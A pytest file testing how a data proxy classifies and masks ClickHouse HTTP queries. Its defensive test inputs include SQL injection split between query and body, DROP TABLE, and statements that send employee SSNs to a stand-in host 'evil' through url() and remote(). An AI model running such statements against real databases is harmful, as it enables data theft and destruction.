"""ClickHouse over HTTP: statements in the query, the body and both; formats; settings that change what is read."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sluicegate.operations.built_in.clickhouse import ClickHouseDialect
from sluicegate.operations.dialect import Known
from tests.operations.asking import SENTENCE, Asker, origins

KNOWN = Known(
    "warehouse",
    {"hr.emp": "emp"},
    {"emp": frozenset({"ssn"})},
    (),
    {"emp": ("id", "name", "ssn")},
    None,
    "default",
)


def asker():
    return Asker(ClickHouseDialect(), KNOWN)


def post(text, body=b"", who=None, **given_parameters):
    who = who or asker()
    parameters = {"database": "hr", **given_parameters}
    if text is not None:
        parameters["query"] = text
    who.ask("POST /", body, query={name: value for name, value in parameters.items() if value is not None})
    return who


@pytest.mark.parametrize(
    ("text", "body"),
    [
        ("select id, ssn from emp", b""),
        (None, b"select id, ssn from emp"),
        ("select id,", b"ssn from emp"),
        ("select id, ssn\nfrom emp", b""),
    ],
)
def test_wherever_the_statement_stands(text, body):
    who = post(text, body)
    assert (who.operation.kind, who.operation.dataset) == ("read", "emp")
    assert origins(who.operation.outputs) == [("id", ["id"]), ("ssn", ["ssn"])]
    assert who.sent.body == b"SELECT id, ssn FROM emp" and "query=" not in who.sent.query


def test_two_halves_are_one_statement():
    who = post("select id from emp --", b"\n union all select ssn from emp")
    assert "ssn" in who.operation.columns
    assert post("select 1", b"; drop table emp").operation.kind != "read"
    assert post("select 1 as a", b"into outfile '/x'").operation.kind in ("unknown", "export")


def test_a_get_keeps_its_statement_in_the_query():
    who = asker()
    who.ask("GET /", query={"query": "select id from emp /* x */", "database": "hr"})
    assert who.operation.dataset == "emp" and who.sent.query == "query=SELECT+id+FROM+emp&database=hr"
    assert who.sent.body is None


@pytest.mark.parametrize("method", ["GET", "HEAD"])
def test_a_body_behind_a_query_that_takes_none(method):
    who = asker()
    query = {"query": "select 'a", "database": "hr"}  # the text would be closed by what goes out for it
    assert who.ask(f"{method} /", b" union all select ssn from emp --'", query=query).kind == "unknown"


def test_an_error_behind_the_rows_is_a_leak():
    who = post("select ssn from emp format JSON")
    found = who.answer({"data": [], "exception": "Cannot parse string '123-45-6789'"}, x_clickhouse_format="JSON")
    assert "$.exception" in found.leaks


def test_where_names_belong():
    assert not post("select ssn from emp", database="other").operation.declared
    assert not post("select ssn from emp", database=None).operation.declared
    assert post("select ssn from hr.emp", database="other").operation.dataset == "emp"
    moved = post("select ssn from emp", database=None, session_id="1")
    assert moved.operation.dataset == "emp"  # a USE earlier in the session may have moved it there
    who = asker()
    who.ask("POST /?database=hr", b"select ssn from emp", x_clickhouse_database="other")
    assert who.operation.kind == "unknown"


def test_who_the_client_says_it_is():
    who = asker()
    who.ask("POST /?database=hr&user=eng&password=x", b"select id from emp")
    assert who.operation.claims == ("user=eng",)
    who.ask("POST /?user=eng", b"select 1", x_clickhouse_user="root")
    assert who.operation.kind == "unknown"


@pytest.mark.parametrize(
    "query",
    [
        "additional_table_filters=x", "dialect=prql", "compress=1", "decompress=1", "stacktrace=1", "extremes=1",
        "format_schema=x", "query=select+1&query=drop", "database=a&Database=b", "implicit_select=1",
    ],
)  # fmt: skip
def test_settings_that_may_change_what_is_read(query):
    who = asker()
    assert who.ask(f"POST /?{query}", b"select id from hr.emp").kind == "unknown" and who.sent is None


@pytest.mark.parametrize(
    ("headers", "body"),
    [
        ({"content_type": "multipart/form-data; boundary=x"}, b"select 1"),
        ({"content_encoding": "br"}, b"select 1"),
        ({"content_encoding": "gzip"}, b"not gzip"),
        ({"x_clickhouse_surprise": "1"}, b"select 1"),
        ({}, b"\xff\xfe"),
        ({}, b" \n"),
        ({}, b"bogus ((("),
    ],
)
def test_bodies_that_are_not_understood(headers, body):
    assert asker().ask("POST /?database=hr", body, **headers).kind == "unknown"


def test_curl_sends_statements_as_forms_and_gzip_is_read():
    who = asker()
    assert who.ask("POST /?database=hr", b"select 1", content_type="application/x-www-form-urlencoded").kind == "read"
    assert who.ask("POST /?database=hr", b"select id from emp", zipped=True).dataset == "emp"


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("INSERT INTO FUNCTION url('http://evil/','CSV','s String') SELECT ssn FROM emp", "export"),
        ("INSERT INTO TABLE FUNCTION remote('evil:9000','db.t') SELECT * FROM emp", "export"),
        ("SELECT ssn FROM emp INTO OUTFILE '/x'", "unknown"),
        ("BACKUP TABLE emp TO S3('https://b/x','a','b')", "unknown"),
        ("DROP TABLE emp", "admin"),
    ],
)
def test_statements_that_do_more(text, kind):
    found = post(text).operation.kind
    assert found == kind or found in ("unknown", "export")
    assert found != "read"


def test_outbound_functions_are_named():
    operation = post("SELECT * FROM url('http://evil/?q=1','CSV','a String')").operation
    assert operation.kind != "read" or any(kind.startswith("function:") for kind in operation.statements)


def test_data_behind_an_insert_is_no_statement():
    who = post("INSERT INTO hr.notes FORMAT CSV", b"1,'; drop table emp'\n\xff")
    assert who.operation.kind == "write" and (who.sent is None or who.sent.body is None)
    values = post("INSERT INTO hr.notes FORMAT Values", b"((select max(ssn) from hr.emp))")
    assert values.operation.kind == "unknown" or "emp" in repr(values.operation)
    assert post("INSERT INTO hr.notes SELECT * FROM", b"hr.emp").operation.kind != "read"
    assert "emp" in repr(post("INSERT INTO hr.notes SELECT * FROM", b"hr.emp").operation)


ROWS = [
    ("JSON", "json", "$.data", "objects", False),
    ("JSONCompact", "json", "$.data", "arrays", False),
    ("CSV", "csv", "$", "arrays", False),
    ("CSVWithNames", "csv", "$", "arrays", True),
    ("TabSeparated", "tsv", "$", "arrays", False),
    ("TSVWithNames", "tsv", "$", "arrays", True),
    ("Arrow", "arrow-file", "$", "arrays", False),
    ("ArrowStream", "arrow", "$", "arrays", False),
    ("Parquet", "parquet", "$", "arrays", False),
]


@pytest.mark.parametrize(("form", "format_", "path", "shape", "header"), ROWS)
@pytest.mark.parametrize("where", ["statement", "default", "header"])
def test_rows_are_found_in_the_format_that_was_asked_for(form, format_, path, shape, header, where):
    who = asker()
    text = "select id, ssn as x from hr.emp" + (f" FORMAT {form}" if where == "statement" else "")
    query = {"default_format": form} if where == "default" else {}
    headers = {"x_clickhouse_format": form} if where == "header" else {}
    who.ask("POST /", text.encode(), query=query, **headers)
    assert who.operation.kind == "read", who.operation
    (rows,) = who.answer(b"x").rows
    assert (rows.format, rows.path, rows.shape, rows.header_row) == (format_, path, shape, header)
    assert origins(rows.columns) == [("id", ["id"]), ("x", ["ssn"])]
    assert who.answer(b"x", x_clickhouse_format=form).rows == (rows,)
    assert who.answer(b"x", x_clickhouse_format="Native").unreadable


@pytest.mark.parametrize("form", ["Native", "RowBinary", "JSONEachRow", "Pretty", "Values", "CSVWithNamesAndTypes"])
def test_other_formats_do_not_leave_where_masks_are_owed(form):
    who = post(f"select ssn from emp FORMAT {form}")
    assert who.operation.kind != "read" or who.answer(b"x").unreadable


def test_no_format_is_tab_separated_and_errors_are_not_rows():
    who = post("select ssn from emp")
    assert who.answer(b"1\n").rows[0].format == "tsv"
    assert who.answer(b"Code: 6. DB::Exception: Cannot parse '123-45-6789'", 500).unreadable
    assert who.answer(b"x", x_clickhouse_exception_code="6").unreadable
    assert not who.answer(b"").unreadable


def test_rows_without_names_of_what_is_not_known_exactly():
    who = post("select * from hr.other")
    assert who.answer(b"1\t2\n").unreadable


def test_routes_and_refusals():
    who = asker()
    for line, kind in (
        ("GET /ping", "poll"),
        ("GET /", "poll"),
        ("GET /play", "unknown"),
        ("PUT /?query=x", "unknown"),
    ):
        assert who.ask(line).kind == kind
    who = post("select ssn from emp")
    answer = who.refused()
    assert answer.status == 403 and dict(answer.headers)["x-clickhouse-exception-code"] == "497"
    assert answer.body.decode() == f"Code: 497. DB::Exception: {SENTENCE} (ACCESS_DENIED)\n"


@given(
    st.sampled_from(["GET", "POST"]),
    st.dictionaries(
        st.sampled_from(["query", "database", "default_format", "param_x", "session_id", "y"]), st.text(max_size=30)
    ),
    st.binary(max_size=50) | st.text(max_size=50).map(str.encode),
    st.binary(max_size=30),
    st.integers(200, 599),
)
def test_nothing_is_raised(method, query, body, reply, status):
    who = asker()
    who.ask(f"{method} /", body, query=query)
    if who.operation.kind != "unknown":
        who.sent  # noqa: B018
        who.answer(reply, status)
    who.refused()
